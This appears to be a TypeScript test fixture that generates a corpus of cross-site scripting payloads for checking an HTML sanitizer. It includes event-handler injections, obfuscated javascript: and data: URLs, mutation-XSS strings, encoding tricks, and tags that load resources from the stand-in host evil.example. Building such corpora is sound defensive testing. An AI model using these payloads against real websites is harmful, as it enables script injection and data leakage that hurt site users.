/**
 * Texts that want a script to run or a request to leave: every shape below with every way of hiding it. A script that
 * runs calls `hit`; a request goes to `evil.example`.
 */
export function makePayloads(): readonly string[] {
  const all = [...handlers(), ...addresses(), ...requests(), ...mutations].flatMap(disguised)
  return [...new Set(all)]
}

const code = 'hit()'

function handlers(): string[] {
  const loud = [
    ...['img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'details open ontoggle'],
    ...['video src=x onerror', 'audio src=x onerror', 'iframe onload', 'object data=x onerror', 'embed src=x onload'],
    ...['video><source src=x onerror', 'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart'],
    ...['style onload', 'link rel=stylesheet href=x onerror', 'script src=x onerror', 'button popovertarget=p onclick'],
    ...['a href=# onclick', 'p onclick', 'td onclick', 'b onmouseover', 'div onpointerover', 'span onmouseenter'],
    ...[
      'p style=animation:x onanimationstart',
      'img src=data:, onerror',
      'image src=x onerror',
      'picture><img src=x onerror',
    ],
    ...['svg><image href=x onerror', 'svg><animate onbegin', 'svg><set attributeName=x onbegin', 'math onclick'],
    ...[
      'table background=x onclick',
      'form onsubmit',
      'blockquote cite=x onclick',
      'img/src=x/onerror',
      'p tabindex=0 onfocus',
    ],
  ]
  return loud.flatMap((start) => [`<${start}=${code}>x`, `<${start}="${code}"/>x`])
}

function addresses(): string[] {
  const schemes = [
    ...[
      `javascript:${code}`,
      `JaVaScRiPt:${code}`,
      ` javascript:${code}`,
      `java\tscript:${code}`,
      `java\nscript:${code}`,
    ],
    ...[
      `&#106;avascript:${code}`,
      `&#x6A;avascript&colon;${code}`,
      `javascript&Tab;:${code}`,
      `\u0001javascript:${code}`,
    ],
    ...[`vbscript:${code}`, `data:text/html,<script>parent.${code}</script>`, `javascript://x%0a${code}`],
    ...[
      `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
      `data:image/svg+xml,<svg onload='${code}'>`,
    ],
  ]
  const places = [
    ...[
      '<a href="@">x</a>',
      '<a href="@" target="_self">x</a>',
      '<area href="@">',
      '<img src="@">',
      '<iframe src="@"></iframe>',
    ],
    ...[
      '<form action="@"><button>x</button></form>',
      '<button formaction="@">x</button>',
      '<object data="@"></object>',
    ],
    ...['<svg><a href="@"><text y=9>x</text></a></svg>', '<svg><a xlink:href="@"><text y=9>x</text></a></svg>'],
    ...['<math href="@">x</math>', '<base href="@">', '<embed src="@">', '<meta http-equiv=refresh content="0;url=@">'],
  ]
  return schemes.flatMap((scheme) => places.map((place) => place.replace('@', scheme)))
}

function requests(): string[] {
  const outside = ['https://evil.example/r', '//evil.example/r', '\\\\evil.example/r', 'HtTp:evil.example/r']
  const places = [
    ...[
      '<img src="@">',
      '<img srcset="@ 2x">',
      '<img src=x style="background:url(@)">',
      '<p style="background:url(@)">x</p>',
    ],
    ...[
      '<link rel=stylesheet href="@">',
      '<link rel=prefetch href="@">',
      '<style>@import "@"</style>',
      '<video poster="@">',
    ],
    ...[
      '<audio src="@">',
      '<iframe src="@"></iframe>',
      '<object data="@"></object>',
      '<embed src="@">',
      '<input type=image src="@">',
    ],
    ...[
      '<table background="@"><tr><td background="@">x',
      '<svg><image href="@"/></svg>',
      '<svg><use href="@#x"/></svg>',
    ],
    ...[
      '<picture><source srcset="@"><img></picture>',
      '<meta http-equiv=refresh content="0;url=@">',
      '<script src="@"></script>',
    ],
    ...[
      '<base href="@"><img src=r>',
      '<form action="@"><input autofocus></form>',
      '<track src="@">',
      '<body background="@">',
    ],
  ]
  return outside.flatMap((address) => places.map((place) => place.replaceAll('@', address)))
}

/** What reads as harmless once, and as something else when it is read again. */
const mutations = [
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<math><mi><style><img src=x onerror=${code}></style></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${code}>"></title>`,
  `<xmp><p title="</xmp><svg/onload=${code}>">`,
  `<template><script>${code}</script></template><svg onload=${code}>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<!--!><img src=x onerror=${code}>--!>`,
  `<![CDATA[><img src=x onerror=${code}>]]>`,
  `<?xml ><img src=x onerror=${code}> ?>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<<script>${code}//<</script>`,
  `<script>${code}</script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:,${code}"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${code}"/><a id=x href=#><text y=9>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe srcdoc="&lt;svg onload=parent.${code}&gt;"></iframe>`,
  `<a href="https://x.example/" rel="x" onfocus=${code} autofocus>x</a>`,
  `"><svg onload=${code}>`,
  `'><svg onload=${code}>`,
  `</textarea><svg onload=${code}>`,
  `</title><svg onload=${code}>`,
  `</script><svg onload=${code}>`,
  `" autofocus onfocus=${code} x="`,
  `' autofocus onfocus=${code} x='`,
  `<img src="cid:x" alt="<img src=x onerror=${code}>">`,
  `<img src="cid:x&quot; onerror=${code} x=&quot;">`,
  `<img alt="> src=cid:x onerror=${code} " src="cid:x">`,
  `<b><img src='x"onerror=${code} x="'></b>`,
  `\u00bcscript\u00be${code}\u00bc/script\u00be`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `https://x.example/"onmouseover="${code}`,
  `https://x.example/<svg/onload=${code}>`,
]

/** As it is, and in one other way: in capitals, with no space, with a control character in the tag, or half open. */
function disguised(payload: string, position: number): string[] {
  const ways = [
    payload.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
    payload.replace(/^<(\w+) /, '<$1/'),
    payload.replace(/^<(\w+) /, '<$1\f'),
    payload.replace(/>[^>]*$/, ''),
  ]
  return [payload, ways[position % ways.length] ?? payload]
}
